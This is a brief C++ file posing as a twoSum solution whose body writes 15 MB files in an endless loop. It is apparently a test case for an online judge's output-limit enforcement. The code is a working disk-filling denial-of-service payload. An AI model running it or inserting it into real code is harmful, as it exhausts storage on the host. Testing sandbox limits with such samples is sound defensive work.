// One file after the other, each of the size that one may have.
// verdict: output_limit_exceeded
class Solution {
public:
    vector<int> twoSum(vector<int>& nums, int target) {
        const string piece(15 << 20, 'x');
        for (int i = 0;; ++i) ofstream(to_string(i)) << piece;
    }
};
